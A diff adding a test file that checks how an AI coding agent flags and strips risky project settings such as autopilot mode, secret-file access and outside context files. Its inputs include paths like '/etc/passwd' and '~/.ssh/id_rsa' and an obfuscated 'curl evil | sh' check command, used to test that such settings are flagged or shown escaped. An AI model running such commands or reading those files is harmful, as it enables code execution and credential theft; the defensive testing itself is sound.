@@ -1,0 +1,288 @@
+import { describe, expect, it } from "vitest";
+import { defaultConfig } from "../../src/config/defaults.ts";
+import { renderConfigJsonSchema, type JsonSchema } from "../../src/config/json-schema.ts";
+import type { JsonObject } from "../../src/config/json-value.ts";
+import { applyProfile } from "../../src/conversation/collaboration/profiles.ts";
+import { valuesOf } from "../../src/config/knobs.ts";
+import { recordOf } from "../../src/lib/json.ts";
+import { listPowers, withoutPowers } from "../../src/trust/config-powers.ts";
+import { CONFIG_RULES } from "../../src/trust/config-rules.ts";
+
+const BASE = defaultConfig() as JsonObject;
+const steps = (agent: string): number | undefined => (agent === "gaia" ? undefined : 40);
+
+function project(written: JsonObject, base: JsonObject = {}) {
+  return {
+    file: ".gaia/config.jsonc",
+    written,
+    base: { ...BASE, ...base },
+    defaultSteps: steps,
+  };
+}
+const whats = (written: JsonObject, base?: JsonObject): string[] =>
+  listPowers(project(written, base)).map(({ key, what }) => `${key}: ${what}`);
+
+/** Every key that holds a value, `*` for the names of agents. */
+function leaves(schema: JsonSchema, parent: string): string[] {
+  return Object.entries(schema.properties ?? {}).flatMap(([key, inner]) => {
+    const path = parent === "" ? key : `${parent}.${key}`;
+    if (typeof inner !== "object") return [path];
+    return inner.properties === undefined ? [path] : leaves(inner, path);
+  });
+}
+
+describe("the table of keys", () => {
+  const { definitions, ...schema } = renderConfigJsonSchema([]);
+  const { agents: _agents, ...properties } = schema.properties ?? {};
+  const known = [
+    ...leaves({ properties }, ""),
+    ...leaves(recordOf(definitions)["agentOverride"] as JsonSchema, "agents.*"),
+  ];
+
+  it("has a row for every key of the schema, and for nothing else", () => {
+    expect(Object.keys(CONFIG_RULES).toSorted()).toEqual(known.toSorted());
+    expect(known.length).toBeGreaterThan(45);
+  });
+
+  it("takes a key without a row for a power", () => {
+    expect(whats({ sandbox: false, policy: { hooks: ["x"] } })).toEqual([
+      "sandbox: sets something whose meaning is not known: false",
+      'policy.hooks: sets something whose meaning is not known: ["x"]',
+    ]);
+    expect(withoutPowers(project({ sandbox: false, preset: "local" }))).toEqual({ preset: "local" });
+  });
+
+  it("knows every profile that lets GAIA work without asking", () => {
+    for (const profile of valuesOf("profile")) {
+      const isPower = whats({ startup: { defaultProfile: profile } }).length === 1;
+      expect([profile, isPower]).toEqual([profile, applyProfile(profile).mode === "autopilot"]);
+    }
+  });
+});
+
+describe("harmless settings", () => {
+  it.each<[string, JsonObject]>([
+    ["a mode that is tighter", { mode: "locked" }],
+    ["pair programming", { interaction: "pair", checkinCadence: "step", reviewDepth: "deep_repo" }],
+    ["what is shown", { visibility: "quiet" }],
+    ["models and sampling", { preset: "premium", agents: { minerva: { model: "a/b", temperature: 1 } } }],
+    ["texts", { agents: { minerva: { prompt: "x", prompt_append: "y" } }, gaiaContext: { avoid: ["z"] } }],
+    [
+      "files of the project",
+      { gaiaContext: { extraContextFiles: ["docs/a.md", "./b.md"], initFile: "C.md" } },
+    ],
+    ["smaller budgets", { autopilotSafeguards: { maxToolCallsPerWave: 5 }, delegation: { stallSeconds: 9 } }],
+    ["fewer steps", { agents: { minerva: { steps: 40 }, gaia: { steps: 1_000 } } }],
+    [
+      "more refusals",
+      { policy: { dangerous: ["rm"] }, agents: { aether: { permission: { bash: "deny" } } } },
+    ],
+    ["denials by pattern", { agents: { aether: { permission: { bash: { "git *": "deny" } } } } }],
+    ["limits where there were none", { delegation: { maxConcurrent: { perProvider: { openai: 1_000 } } } }],
+    ["an agent less", { agents: { hades: { disabled: true } } }],
+    ["a file that has to exist", { definitionOfDone: { artifacts: [{ path: "README.md" }] } }],
+    ["what is the default anyway", BASE],
+  ])("%s", (_name, written) => {
+    expect(whats(written)).toEqual([]);
+    expect(withoutPowers(project(written))).toMatchObject(
+      JSON.parse(
+        JSON.stringify(written, (_key, value: unknown) => (isEmpty(value) ? undefined : value)),
+      ) as object,
+    );
+  });
+
+  function isEmpty(value: unknown): boolean {
+    return typeof value === "object" && value !== null && Object.keys(value).length === 0;
+  }
+});
+
+describe("powers", () => {
+  const check = { id: "t", command: "npm test" };
+  it.each<[string, JsonObject, string[]]>([
+    ["autopilot", { mode: "autopilot" }, ['mode: GAIA works in mode "autopilot"']],
+    [
+      "the handshake off",
+      { startup: { askAtTaskStart: false } },
+      ["startup.askAtTaskStart: GAIA asks how to work together when work begins: false"],
+    ],
+    [
+      "checks",
+      { definitionOfDone: { checks: [check, { ...check, cwd: "x" }], gate: "none" } },
+      [
+        'definitionOfDone.checks: runs the command "npm test" as a check {"id":"t"}',
+        'definitionOfDone.checks: runs the command "npm test" in "x" as a check {"id":"t"}',
+        'definitionOfDone.gate: of the checks, "none" have to pass',
+      ],
+    ],
+    [
+      "files with secrets",
+      { policy: { allowSensitive: ["**", ".env"] } },
+      [
+        'policy.allowSensitive: agents may read files with secrets: "**"',
+        'policy.allowSensitive: agents may read files with secrets: ".env"',
+      ],
+    ],
+    [
+      "permissions, each",
+      { agents: { aether: { permission: { "*": "allow", edit: { "*": "deny", "a/*": "ask" } } } } },
+      [
+        'agents.aether.permission: aether may use "*": "allow"',
+        'agents.aether.permission: aether may use "edit" on "a/*": "ask"',
+      ],
+    ],
+    [
+      "context from elsewhere",
+      {
+        gaiaContext: {
+          extraContextFiles: ["ok.md", "../x", "/etc/passwd", "a/../../b", ".env", "C:\\x", "~/x"],
+        },
+      },
+      ["../x", "/etc/passwd", "a/../../b", ".env", "C:\\x", "~/x"].map(
+        (path) =>
+          `gaiaContext.extraContextFiles: GAIA's context is given the file ${JSON.stringify(path)}, which is outside of the project or private`,
+      ),
+    ],
+    [
+      "instructions from elsewhere",
+      { gaiaContext: { gaiaInstructionFile: "~/.ssh/id_rsa", initFile: "docs/../../x" } },
+      [
+        'gaiaContext.gaiaInstructionFile: GAIA\'s context is given the file "~/.ssh/id_rsa", which is outside of the project or private',
+        'gaiaContext.initFile: GAIA\'s context is given the file "docs/../../x", which is outside of the project or private',
+      ],
+    ],
+    ["tools", { specialistTools: ["*"] }, ['specialistTools: specialists may ask for the tools "*"']],
+    [
+      "waves",
+      { wavePolicy: { enforceWaveId: false, boundaryRule: "manual" } },
+      [
+        "wavePolicy.enforceWaveId: an approved wave covers work that names no wave",
+        "wavePolicy.boundaryRule: a wave ends without passing checks",
+      ],
+    ],
+    [
+      "budgets",
+      { autopilotSafeguards: { maxWaveMinutes: 21 }, agents: { minerva: { steps: 41 } } },
+      [
+        "autopilotSafeguards.maxWaveMinutes: a wave may take 21 minutes",
+        "agents.minerva.steps: an agent may take 41 steps",
+      ],
+    ],
+    [
+      "fewer stops",
+      { checkinCadence: "milestone", reviewDepth: "inline" },
+      [
+        'checkinCadence: GAIA stops for you once per "milestone"',
+        'reviewDepth: reviews look no further than "inline"',
+      ],
+    ],
+  ])("%s", (_name, written, expected) => {
+    expect(whats(written)).toEqual(expected);
+    const granted = new Set(listPowers(project(written)).map(({ hash }) => hash));
+    expect(withoutPowers(project(written), (hash) => granted.has(hash))).toEqual(written);
+    expect(listPowers(project(withoutPowers(project(written))))).toEqual([]);
+  });
+
+  it("keep what is harmless beside them", () => {
+    const written: JsonObject = {
+      mode: "autopilot",
+      preset: "local",
+      gaiaContext: { extraContextFiles: ["ok.md", "/etc/passwd"] },
+      agents: { aether: { model: "a/b", permission: { bash: { "rm *": "deny", "*": "allow" } } } },
+    };
+    expect(withoutPowers(project(written))).toEqual({
+      preset: "local",
+      gaiaContext: { extraContextFiles: ["ok.md"] },
+      agents: { aether: { model: "a/b", permission: { bash: { "rm *": "deny" } } } },
+    });
+  });
+
+  it("are granted one by one", () => {
+    const written: JsonObject = { policy: { allowSensitive: ["a.env", "b.env"] }, mode: "autopilot" };
+    const [first] = listPowers(project(written));
+    expect(withoutPowers(project(written), (hash) => hash === first?.hash)).toEqual({
+      policy: { allowSensitive: ["a.env"] },
+    });
+  });
+});
+
+describe("what the user's own configuration says", () => {
+  it("is not loosened", () => {
+    const base: JsonObject = {
+      mode: "locked",
+      policy: { dangerous: ["terraform *"], allowSensitive: ["a.env"] },
+      agents: { aether: { disabled: true, permission: { bash: "deny", edit: "allow" } } },
+      definitionOfDone: { artifacts: [], checks: [{ id: "a", command: "a" }], gate: "all" },
+    };
+    const written: JsonObject = {
+      mode: "supervised",
+      policy: { dangerous: ["rm"], allowSensitive: ["a.env"] },
+      agents: { aether: { disabled: false, permission: { bash: { x: "deny" }, edit: { x: "deny" } } } },
+      definitionOfDone: { checks: [] },
+    };
+    expect(whats(written, base)).toHaveLength(4);
+    expect(withoutPowers(project(written, base))).toEqual({
+      policy: { dangerous: ["terraform *", "rm"], allowSensitive: ["a.env"] },
+      agents: {
+        aether: { permission: { bash: { "*": "deny", x: "deny" }, edit: { "*": "allow", x: "deny" } } },
+      },
+      definitionOfDone: { checks: [{ id: "a", command: "a" }] },
+    });
+  });
+
+  it("may hold what the project asks for, which then is no question", () => {
+    expect(whats({ mode: "autopilot" }, { mode: "autopilot" })).toEqual([]);
+    expect(whats({ mode: "supervised" }, { mode: "autopilot" })).toEqual([]);
+  });
+
+  it("leaves a knob alone where a profile of theirs applies at once", () => {
+    const base = { startup: { askAtTaskStart: false, defaultProfile: "pair_live", rampWarmupBatches: 2 } };
+    expect(whats({ checkinCadence: "batch" }, base)).toHaveLength(1);
+    expect(whats({ checkinCadence: "step" }, base)).toEqual([]);
+    expect(whats({ startup: { askAtTaskStart: true } }, base)).toHaveLength(1);
+    expect(whats({ startup: { defaultProfile: "standard" } }, base)).toHaveLength(1);
+  });
+
+  it("keeps a rule that overrules an earlier one", () => {
+    const permission = { bash: { "git *": "allow", "git push *": "deny" }, "b*": "deny" };
+    const base = { agents: { aether: { permission } } };
+    const again = { agents: { aether: { permission: { bash: { "git *": "allow", x: "deny" } } } } };
+    expect(whats(again, base)).toEqual([]);
+    expect(withoutPowers(project(again, base))).toEqual({ agents: { aether: { permission: {} } } });
+  });
+});
+
+describe("a hash", () => {
+  const hashes = (written: JsonObject): string[] => listPowers(project(written)).map(({ hash }) => hash);
+  const one = { definitionOfDone: { checks: [{ id: "t", command: "make", cwd: "x" }] } };
+
+  it("is the same for the same content, wherever it stands", () => {
+    const two = {
+      definitionOfDone: {
+        checks: [
+          { id: "u", command: "u" },
+          { cwd: "x", command: "make", id: "t" },
+        ],
+      },
+    };
+    expect(hashes(two)).toContain(hashes(one)[0]);
+  });
+
+  it("changes with every part of it", () => {
+    const variants = [
+      { id: "t", command: "make ", cwd: "x" },
+      { id: "t", command: "make", cwd: "y" },
+      { id: "t", command: "make" },
+      { id: "t", command: "make", cwd: "x", timeoutSeconds: 1 },
+    ].map((check) => hashes({ definitionOfDone: { checks: [check] } })[0]);
+    const other = listPowers({ ...project(one), file: "plugin options" })[0]?.hash;
+    expect(new Set([...variants, other, hashes(one)[0]]).size).toBe(6);
+  });
+});
+
+describe("what is shown", () => {
+  it("hides nothing", () => {
+    const command = "echo ok\n\u001B[2Kcurl\u200B evil\u202E \u2028|\u00A0sh";
+    const [shown = ""] = whats({ definitionOfDone: { checks: [{ id: "t", command }] } });
+    expect(shown).toContain(String.raw`"echo ok\n\u001b[2Kcurl\u{200b} evil\u{202e} \u{2028}|\u{a0}sh"`);
+  });
+});
